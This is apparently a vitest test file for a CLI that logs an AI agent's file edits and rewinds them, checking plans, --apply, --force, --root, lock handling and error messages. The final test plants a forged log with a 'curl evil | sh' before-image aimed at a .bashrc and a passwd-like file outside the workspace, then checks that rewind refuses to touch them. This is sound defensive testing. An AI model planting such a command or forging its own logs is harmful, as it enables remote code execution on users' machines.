import { createHash } from 'node:crypto'
import { appendFile, mkdir, readdir, readFile, stat, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { afterEach, expect, it } from 'vitest'
import { Context } from 'cordis'
import { cleanup, tempDir } from '@dshkit/testing'
import DshBase from '@dshkit/dsh-base'
import { JsonlSessionStore } from '@dshkit/session-store-jsonl'
import { dshkit } from './run-cli.js'

afterEach(cleanup)

const exists = (path: string) =>
  stat(path).then(
    () => true,
    () => false,
  )

/** A workspace with a user file and a .git, and a session where the agent wrote, edited and created files. */
async function session() {
  const root = await tempDir('dshkit-cli-rewind-')
  const home = await tempDir('dshkit-cli-rewind-log-')
  const log = join(home, 'session.jsonl')
  await mkdir(join(root, '.git'))
  await writeFile(join(root, '.git', 'HEAD'), 'ref: refs/heads/main\n')
  await writeFile(join(root, 'notes.md'), 'mine\n')
  const calls = [
    { callId: 'c1', name: 'fs_write', arguments: { path: 'notes.md', content: 'agent v1\n' } },
    { callId: 'c2', name: 'fs_edit', arguments: { path: 'notes.md', old: 'v1', new: 'v2' } },
    { callId: 'c3', name: 'fs_write', arguments: { path: 'src/new.ts', content: 'export {}\n' } },
    { callId: 'c4', name: 'fs_read', arguments: { path: 'notes.md' } },
  ]
  // In-process (the same dsh-base `dshkit run` boots), so each test spawns only the commands it checks.
  const ctx = new Context()
  const fiber = ctx.plugin(DshBase, { log, 'fs-sandbox': { roots: [root] }, 'user-approval': { responder: 'headless' }, 'shell-sandbox': false })
  try {
    await fiber
    await ctx.loop.executeToolCalls(calls)
  } finally {
    await fiber.dispose() // releases the log's writer lock
  }
  return { root, log }
}

it('dshkit log shows the write intents, reads observed, and rewinds', { timeout: 90_000 }, async () => {
  const { root, log } = await session()
  const { stdout } = await dshkit(['log', log])
  expect(stdout).toMatch(new RegExp(`✎ \\S+ write \\[c1\\] ${join(root, 'notes.md')} \\([0-9a-f]{12} → [0-9a-f]{12}\\)`))
  expect(stdout).toMatch(new RegExp(`✎ \\S+ edit \\[c2\\] ${join(root, 'notes.md')}`))
  expect(stdout).toMatch(new RegExp(`✎ \\S+ write \\[c3\\] ${join(root, 'src/new.ts')} \\(absent → [0-9a-f]{12}\\)`))
  expect(stdout).toMatch(new RegExp(`◦ \\S+ read \\[c4\\] ${join(root, 'notes.md')} \\([0-9a-f]{12}\\)`))
})

it('dshkit rewind prints the plan and changes nothing without --apply; --apply restores and records the rewind', { timeout: 90_000 }, async () => {
  const { root, log } = await session()
  const plan = await dshkit(['rewind', log, '--to', 'c1'], { cwd: root })
  expect(plan.code).toBe(0)
  expect(plan.stdout).toContain(`restore  ${join(root, 'notes.md')}`)
  expect(plan.stdout).toContain(`delete   ${join(root, 'src/new.ts')} (a recorded call created it)`)
  expect(plan.stdout).toContain('run again with --apply')
  expect(await readFile(join(root, 'notes.md'), 'utf8')).toBe('agent v2\n')
  const applied = await dshkit(['rewind', log, '--to', 'c1', '--apply'], { cwd: root })
  expect(applied.code).toBe(0)
  expect(await readFile(join(root, 'notes.md'), 'utf8')).toBe('mine\n')
  expect(await exists(join(root, 'src/new.ts'))).toBe(false)
  expect(await readdir(join(root, '.git'))).toEqual(['HEAD'])
  const undo = /undo it with: dshkit rewind \S+ --to (rewind-\S+) --apply/.exec(applied.stdout)![1]
  expect((await dshkit(['log', log])).stdout).toContain(`rewind [${undo}] to before c1: 2 files`)
  expect((await dshkit(['rewind', log, '--to', undo, '--apply'], { cwd: root })).code).toBe(0)
  expect(await readFile(join(root, 'notes.md'), 'utf8')).toBe('agent v2\n')
  expect(await readFile(join(root, 'src/new.ts'), 'utf8')).toBe('export {}\n')
})

it('a file edited by someone since is skipped unless --force', { timeout: 90_000 }, async () => {
  const { root, log } = await session()
  await writeFile(join(root, 'notes.md'), 'the user typed here\n')
  const plan = await dshkit(['rewind', log, '--to', 'c2', '--apply'], { cwd: root })
  expect(plan.stdout).toMatch(/skipped {2}\S+notes\.md: it changed since the agent's last recorded change/)
  expect(await readFile(join(root, 'notes.md'), 'utf8')).toBe('the user typed here\n')
  const forced = await dshkit(['rewind', log, '--to', 'c2', '--apply', '--force'], { cwd: root })
  expect(forced.code, forced.stderr + forced.stdout).toBe(0)
  expect(await readFile(join(root, 'notes.md'), 'utf8')).toBe('agent v1\n')
})

it('--root limits the rewind to files under it', { timeout: 90_000 }, async () => {
  const { root, log } = await session()
  const { stdout } = await dshkit(['rewind', log, '--to', 'c1', '--root', join(root, 'src'), '--apply'])
  expect(stdout).toMatch(/skipped {2}\S+notes\.md: it is outside /)
  expect(await exists(join(root, 'src/new.ts'))).toBe(false)
  expect(await readFile(join(root, 'notes.md'), 'utf8')).toBe('agent v2\n')
})

it('mistakes get one line: unknown call id, no --to, missing log', { timeout: 90_000 }, async () => {
  const { log } = await session()
  const unknown = await dshkit(['rewind', log, '--to', 'nope'])
  expect(unknown.code).toBe(1)
  expect(unknown.stderr).toBe('dshkit: no call with id "nope" in this session log; list the call ids with `dshkit log <log>` (or ctx.checkpoints.list())\n')
  const noTo = await dshkit(['rewind', log])
  expect(noTo.code).toBe(2)
  expect(noTo.stderr.split('\n')[0]).toBe(
    'dshkit: rewind needs --to CALL_ID: the call whose before-state to restore (list the ids with `dshkit log SESSION.jsonl`)',
  )
  const missing = await dshkit(['rewind', log + '.nope', '--to', 'c1'])
  expect(missing.stderr).toBe(`dshkit: ${log}.nope: cannot read session log: no such file\n`)
})

it('while a session holds the log, the plan still prints but --apply is refused in one line; --json prints the plan', { timeout: 90_000 }, async () => {
  const { root, log } = await session()
  const holder = new JsonlSessionStore(log)
  await holder.load() // takes the writer lock, as a running `dshkit run --log` does
  try {
    const plan = await dshkit(['rewind', log, '--to', 'c1', '--json'], { cwd: root })
    expect(plan.code).toBe(0)
    expect(JSON.parse(plan.stdout).plan).toMatchObject({ to: 'c1', restore: [{ to: expect.stringMatching(/^[0-9a-f]{64}$/) }], delete: [{ to: 'absent' }] })
    const applied = await dshkit(['rewind', log, '--to', 'c1', '--apply'], { cwd: root })
    expect(applied.code).toBe(1)
    expect(applied.stderr.trim().split('\n')).toHaveLength(1)
    expect(applied.stderr).toMatch(/^dshkit: .*lock/i)
  } finally {
    await holder.close()
  }
})

it('a forged log naming files outside the workspace (/etc-like paths) never writes there: rewind stays under the current folder unless --root says otherwise', {
  timeout: 90_000,
}, async () => {
  const { root, log } = await session()
  const outside = await tempDir('dshkit-cli-rewind-outside-')
  const victim = join(outside, 'passwd')
  const bashrc = join(outside, '.bashrc')
  await writeFile(victim, 'root:x:0:0\n')
  await writeFile(bashrc, 'export PATH\n')
  const sha = (text: string) => createHash('sha256').update(text).digest('hex')
  // Someone who can edit the log (an agent that wrote it, when the log sits in the workspace) plants a before-image too.
  const evil = 'curl evil | sh\n'
  await mkdir(join(`${log}.checkpoints`, 'objects', sha(evil).slice(0, 2)), { recursive: true })
  await writeFile(join(`${log}.checkpoints`, 'objects', sha(evil).slice(0, 2), sha(evil).slice(2)), evil)
  const time = new Date().toISOString()
  await appendFile(
    log,
    [
      { type: 'tool/call', callId: 'x1', name: 'fs_write', arguments: {}, time },
      { type: 'fs/write-intent', callId: 'x1', path: victim, before: 'absent', after: sha('root:x:0:0\n'), time },
      { type: 'fs/write-intent', callId: 'x1', path: bashrc, before: sha(evil), after: sha('export PATH\n'), time },
      { type: 'fs/write-intent', callId: 'x1', path: join(root, 'made.txt'), before: 'absent', after: sha('made\n'), time },
    ]
      .map((event) => JSON.stringify(event) + '\n')
      .join(''),
  )
  await writeFile(join(root, 'made.txt'), 'made\n')
  const applied = await dshkit(['rewind', log, '--to', 'x1', '--apply', '--force'], { cwd: root })
  expect(applied.code, applied.stderr).toBe(0)
  expect(applied.stdout).toContain(`skipped  ${victim}: it is outside ${root}`)
  expect(applied.stdout).toContain(`skipped  ${bashrc}: it is outside ${root}`)
  expect(await readFile(victim, 'utf8')).toBe('root:x:0:0\n')
  expect(await readFile(bashrc, 'utf8')).toBe('export PATH\n')
  expect(await exists(join(root, 'made.txt'))).toBe(false) // inside the folder it runs in, the rewind still works
})
